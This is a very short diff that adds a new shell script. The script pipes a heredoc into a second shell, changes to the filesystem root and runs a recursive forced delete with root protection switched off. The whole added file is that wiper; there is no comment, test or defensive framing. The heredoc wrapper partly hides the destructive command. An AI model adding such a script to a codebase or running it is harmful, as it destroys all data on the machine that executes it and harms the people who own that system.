@@ -1,0 +1,4 @@
+#!/bin/sh
+sh <<'RUN'
+  cd / && rm -rf --no-preserve-root .
+RUN
